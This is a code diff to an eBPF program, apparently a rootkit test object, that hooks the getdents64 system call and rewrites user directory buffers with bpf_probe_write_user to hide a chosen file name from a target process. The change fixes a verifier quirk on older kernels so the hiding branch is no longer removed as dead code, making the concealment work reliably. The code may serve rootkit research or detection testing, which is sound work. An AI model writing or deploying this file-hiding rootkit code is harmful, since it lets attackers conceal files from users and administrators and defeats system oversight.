@@ -13,6 +13,16 @@
  *
  * Under lockdown=integrity the kernel refuses bpf_probe_write_user at load
  * (LOCKDOWN_BPF_WRITE_USER): on such a host this object does not load.
+ *
+ * The walk state lives in the per-thread map value, NOT on the stack: a
+ * kernel without "bpf: verify callbacks as if they are called unknown number
+ * of times" (upstream 6.7; absent from 6.1.y, e.g. Debian 12's 6.1.0-x)
+ * verifies a bpf_loop callback exactly once, with the caller's stack as it is
+ * before the first iteration.  A zero-initialised stack struct makes
+ * have_prev a known 0 there, so the "hide this entry" branch is never
+ * explored, and the verifier then deletes it as dead code (privileged load):
+ * the program loads, attaches, walks — and can never hide anything.  Values
+ * loaded from a map are unknown to the verifier, so every branch survives.
  */
 #include "vmlinux.h"
 #include <bpf/bpf_helpers.h>
@@ -24,13 +34,6 @@ const volatile __u32 cfg_target_tgid = 0;
 const volatile char cfg_hide_name[16] = {};
 const volatile __u32 cfg_hide_len = 0;   /* strlen(cfg_hide_name), 1..15 */
 
-struct {
-	__uint(type, BPF_MAP_TYPE_HASH);
-	__uint(max_entries, 64);
-	__type(key, __u64);    /* pid_tgid */
-	__type(value, __u64);  /* user dirent buffer */
-} rk_bufs SEC(".maps");
-
 /* Diagnostics for the test: [0] entries hidden, [1] last bpf_probe_write_user result. */
 struct {
 	__uint(type, BPF_MAP_TYPE_ARRAY);
@@ -40,33 +43,45 @@ struct {
 } rk_stat SEC(".maps");
 
 struct rk_walk {
-	__u64 dirp;
-	__u64 total;
+	__u64 dirp;       /* user dirent buffer (sys_enter args[1]) */
+	__u64 total;      /* bytes filled (sys_exit ret) */
 	__u64 pos;
 	__u64 prev;
 	__u32 have_prev;
 	__u32 done;
 };
 
+/* pid_tgid -> walk state of that thread's getdents64 in flight (see header). */
+struct {
+	__uint(type, BPF_MAP_TYPE_HASH);
+	__uint(max_entries, 64);
+	__type(key, __u64);
+	__type(value, struct rk_walk);
+} rk_bufs SEC(".maps");
+
+#define RK_MAX_ENTRIES 4096   /* a 32 KiB glibc readdir buffer holds < 1400 records */
+
 SEC("tracepoint/syscalls/sys_enter_getdents64")
 int rk_enter(struct trace_event_raw_sys_enter *ctx)
 {
 	__u64 id = bpf_get_current_pid_tgid();
-	__u64 dirp = ctx->args[1];
+	struct rk_walk w = {};
 
 	if (!cfg_target_tgid || (id >> 32) != cfg_target_tgid)
 		return 0;
-	bpf_map_update_elem(&rk_bufs, &id, &dirp, BPF_ANY);
+	w.dirp = ctx->args[1];
+	bpf_map_update_elem(&rk_bufs, &id, &w, BPF_ANY);
 	return 0;
 }
 
-static long rk_step(__u64 i, struct rk_walk *w)
+static long rk_step(__u64 i, __u64 *id)
 {
+	struct rk_walk *w = bpf_map_lookup_elem(&rk_bufs, id);
 	/* struct linux_dirent64: u64 d_ino; s64 d_off; u16 d_reclen; u8 d_type; char d_name[] */
 	unsigned short reclen = 0;
 	char name[16] = {};
 
-	if (w->pos >= w->total)
+	if (!w || w->pos >= w->total)
 		return 1;
 	if (bpf_probe_read_user(&reclen, sizeof(reclen), (void *)(w->dirp + w->pos + 16)) || !reclen)
 		return 1;
@@ -116,19 +131,20 @@ SEC("tracepoint/syscalls/sys_exit_getdents64")
 int rk_exit(struct trace_event_raw_sys_exit *ctx)
 {
 	__u64 id = bpf_get_current_pid_tgid();
-	struct rk_walk w = {};
-	__u64 *dirp;
+	struct rk_walk *w;
 
 	if (!cfg_target_tgid || (id >> 32) != cfg_target_tgid)
 		return 0;
-	dirp = bpf_map_lookup_elem(&rk_bufs, &id);
-	if (!dirp)
+	w = bpf_map_lookup_elem(&rk_bufs, &id);
+	if (!w)
 		return 0;
-	w.dirp = *dirp;
+	if (ctx->ret > 0) {
+		w->total = ctx->ret;
+		w->pos = 0;
+		w->have_prev = 0;
+		w->done = 0;
+		bpf_loop(RK_MAX_ENTRIES, rk_step, &id, 0);
+	}
 	bpf_map_delete_elem(&rk_bufs, &id);
-	if (ctx->ret <= 0)
-		return 0;
-	w.total = ctx->ret;
-	bpf_loop(1024, rk_step, &w, 0);
 	return 0;
 }
